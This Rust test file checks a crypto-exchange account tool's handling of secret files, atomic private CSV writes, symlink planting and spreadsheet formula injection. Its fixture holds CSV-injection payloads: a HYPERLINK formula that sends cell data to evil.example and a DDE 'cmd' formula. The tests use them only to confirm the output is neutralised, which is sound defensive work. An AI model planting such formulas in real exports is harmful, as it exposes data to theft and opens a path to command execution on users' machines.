//! Files the binary reads or writes besides the database: an API secret file is a small regular
//! file or nothing (a FIFO or a device is refused at once, never waited on or read forever), and
//! `accounts --csv` is written like the reports (exclusive temporary file, atomic rename, 0600
//! whatever the umask) with cells a spreadsheet cannot run, and still reads back as a run's CSV.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::common::*;
use crate::raw_exchange::*;

/// A dry run whose key's secret is in `secret_file`: nothing is sent whatever happens.
async fn dry_run_with_secret_file(ws: &Workspace, secret_file: &Path) -> Output {
    let csv = ws.accounts_csv(&["acct-0001".to_string()]);
    let mut args = run_args("http://127.0.0.1:9", &csv, &ws.db());
    args.extend([
        "--dry-run".to_string(),
        "--api-secret-file".to_string(),
        secret_file.display().to_string(),
    ]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    // run_binary's deadline (TEST_TIMEOUT) bounds a binary that would wait on the FIFO.
    run_binary(&args, &[]).await
}

fn mkfifo(path: &Path) {
    let status = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .expect("mkfifo runs");
    assert!(status.success(), "mkfifo {}", path.display());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fifo_as_the_secret_file_is_refused_without_waiting_for_a_writer() {
    let ws = Workspace::new();
    let fifo = ws.path("secret.fifo");
    mkfifo(&fifo);
    let output = dry_run_with_secret_file(&ws, &fifo).await;
    let err = stderr(&output);
    assert_eq!(output.status.code(), Some(2), "{err}");
    assert!(err.contains("secret.fifo"), "{err}");
    assert!(
        err.contains("FIFO") && err.contains("not a regular file"),
        "{err}"
    );
    assert!(output.stdout.is_empty(), "no plan: {:?}", output.stdout);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_device_or_a_large_file_as_the_secret_file_is_refused() {
    let ws = Workspace::new();
    let output = dry_run_with_secret_file(&ws, Path::new("/dev/zero")).await;
    let err = stderr(&output);
    assert_eq!(output.status.code(), Some(2), "{err}");
    assert!(
        err.contains("/dev/zero") && err.contains("character device"),
        "{err}"
    );

    let big = ws.write("big.secret", &[b'k'; 5000]);
    let output = dry_run_with_secret_file(&ws, &big).await;
    let err = stderr(&output);
    assert_eq!(output.status.code(), Some(2), "{err}");
    assert!(err.contains("5000 bytes (at most 4096)"), "{err}");
    assert!(!err.contains("kkkk"), "not a byte of it is shown: {err}");

    // The same flag with a proper file plans the run.
    let good = ws.write("good.secret", format!("{SECRET}\n").as_bytes());
    let output = dry_run_with_secret_file(&ws, &good).await;
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fifo_as_a_config_groups_secret_file_is_refused() {
    let ws = Workspace::new();
    mkfifo(&ws.path("desk-a.secret"));
    ws.accounts_csv(&["acct-0001".to_string()]);
    let config = ws.write(
        "groups.toml",
        br#"[[group]]
name = "desk-a"
key_env = "GEMINI_API_KEY"
secret_file = "desk-a.secret"
accounts = "accounts.csv"
"#,
    );
    let db = ws.db().display().to_string();
    let lock_dir = ws.dir.path().display().to_string();
    let output = run_binary(
        &[
            "run",
            "--config",
            &config.display().to_string(),
            "--base-url",
            "http://127.0.0.1:9",
            "--db",
            &db,
            "--lock-dir",
            &lock_dir,
            "--dry-run",
        ],
        &[],
    )
    .await;
    let err = stderr(&output);
    assert_eq!(output.status.code(), Some(2), "{err}");
    assert!(
        err.contains("desk-a.secret") && err.contains("FIFO"),
        "{err}"
    );
}

/// A listing whose text a spreadsheet would run: a nickname that starts with `-` (a valid
/// nickname), display names and a type that are formulas.
fn formula_listing() -> String {
    serde_json::json!([
        {"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "account": "-desk", "type": "exchange", "status": "open", "created": 1_700_000_000_000u64},
        {"name": "+cmd|' /C calc'!A0", "account": "desk-2", "type": "@custody", "status": "open", "created": 1_700_000_000_001u64},
        {"name": "-2+3", "account": "desk-3", "type": "exchange", "status": "=closed", "created": 1_700_000_000_002u64},
        {"name": "Desk 4", "account": "desk-4", "type": "exchange", "status": "open", "created": 1_700_000_000_003u64},
    ])
    .to_string()
}

/// The real binary under `umask 000`, with the test key in its environment.
async fn run_under_umask_000(args: &[&str]) -> Output {
    let mut cmd = tokio::process::Command::new("sh");
    cmd.arg("-c")
        .arg("umask 000 && exec \"$@\"")
        .arg("sh")
        .arg(env!("CARGO_BIN_EXE_gemini-sweep"))
        .args(args)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("RUST_LOG", "info")
        .env("GEMINI_API_KEY", KEY)
        .env("GEMINI_API_SECRET", SECRET)
        .kill_on_drop(true);
    tokio::time::timeout(TEST_TIMEOUT, cmd.output())
        .await
        .expect("binary finishes in time")
        .expect("binary runs")
}

/// Names in `dir` that look like a temporary file of `name`.
fn leftovers(dir: &Path, name: &str) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(&format!(".{name}")))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn accounts_csv_is_private_whole_spreadsheet_safe_and_a_run_reads_it() {
    let listing = formula_listing();
    let exchange = RawExchange::start(move |_, _| Reply::json(200, listing.clone())).await;
    let ws = Workspace::new();
    let db = ws.db().display().to_string();
    let csv_path = ws.path("group.csv");
    let csv = csv_path.display().to_string();
    let output = run_under_umask_000(&[
        "accounts",
        "--base-url",
        &exchange.url,
        "--db",
        &db,
        "--csv",
        &csv,
    ])
    .await;
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));

    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let meta = std::fs::symlink_metadata(&csv_path).unwrap();
        assert!(meta.file_type().is_file());
        assert_eq!(meta.permissions().mode() & 0o777, 0o600, "umask 000 or not");
    }
    assert_eq!(leftovers(ws.dir.path(), "group.csv"), Vec::<String>::new());

    let text = std::fs::read_to_string(&csv_path).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut rows = 0;
    for record in reader.records() {
        rows += 1;
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet runs: {cell:?} in\n{text}"
            );
        }
    }
    assert_eq!(rows, 4, "{text}");
    assert!(text.contains("'=HYPERLINK("), "{text}");

    // The file is a run's accounts CSV: the nickname `-desk` reads back as itself.
    let requests_before = exchange.seen().len();
    let plan_db = ws.path("plan.db");
    let args = run_args(&exchange.url, &csv_path, &plan_db);
    let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
    args.push("--dry-run");
    let plan = run_binary(&args, &[]).await;
    let err = stderr(&plan);
    assert_eq!(plan.status.code(), Some(0), "{err}");
    let summary = stdout_json(&plan);
    assert_eq!(summary["accounts_total"], 4, "{summary}");
    // -desk and desk-4 are open exchange accounts; desk-2 is custody, desk-3 is not open.
    assert_eq!(summary["accounts_enabled"], 2, "{summary}");
    assert!(
        err.lines()
            .any(|l| l.split_whitespace().collect::<Vec<_>>() == ["-desk", "sweep"]),
        "{err}"
    );
    assert_eq!(
        exchange.seen().len(),
        requests_before,
        "a dry run sends nothing"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn accounts_csv_onto_a_directory_fails_and_leaves_no_temporary_file() {
    let listing = formula_listing();
    let exchange = RawExchange::start(move |_, _| Reply::json(200, listing.clone())).await;
    let ws = Workspace::new();
    let target = ws.path("out");
    std::fs::create_dir(&target).unwrap();
    let db = ws.db().display().to_string();
    let output = run_binary(
        &[
            "accounts",
            "--base-url",
            &exchange.url,
            "--db",
            &db,
            "--csv",
            &target.display().to_string(),
        ],
        &[],
    )
    .await;
    let err = stderr(&output);
    assert_eq!(output.status.code(), Some(2), "{err}");
    assert!(err.contains(&*target.display().to_string()), "{err}");
    assert_eq!(leftovers(ws.dir.path(), "out"), Vec::<String>::new());
    assert_eq!(std::fs::read_dir(&target).unwrap().count(), 0);
}

/// The temporary names a writer in this process could pick for `name`: the one `accounts
/// --csv` used to use, and those of the reports' writer.
fn guessable_temporary_names(dir: &Path, name: &str) -> Vec<PathBuf> {
    let pid = std::process::id();
    let mut names = vec![dir.join(format!(".{name}.tmp-{pid}"))];
    names.extend((0..4).map(|n| dir.join(format!(".{name}.{pid}.{n}.tmp"))));
    names
}

#[cfg(unix)]
#[test]
fn a_symlink_planted_at_a_temporary_name_is_not_followed() {
    use gemini_sweep::client::ListedAccount;
    let dir = tempfile::tempdir().unwrap();
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    for planted in guessable_temporary_names(dir.path(), "group.csv") {
        std::os::unix::fs::symlink(&victim, &planted).unwrap();
    }
    let listed = [ListedAccount {
        name: "Desk 1".into(),
        account: "desk-1".into(),
        kind: "exchange".into(),
        status: "open".into(),
        created: None,
        counterparty_id: None,
        unusable: None,
    }];
    let path = dir.path().join("group.csv");
    gemini_sweep::accounts::write_csv(&path, &listed, &Default::default()).unwrap();
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    let meta = std::fs::symlink_metadata(&path).unwrap();
    assert!(meta.file_type().is_file(), "the CSV is a file of its own");
    let read = gemini_sweep::accounts::load(&path).unwrap();
    assert_eq!(read[0].account, "desk-1");
}
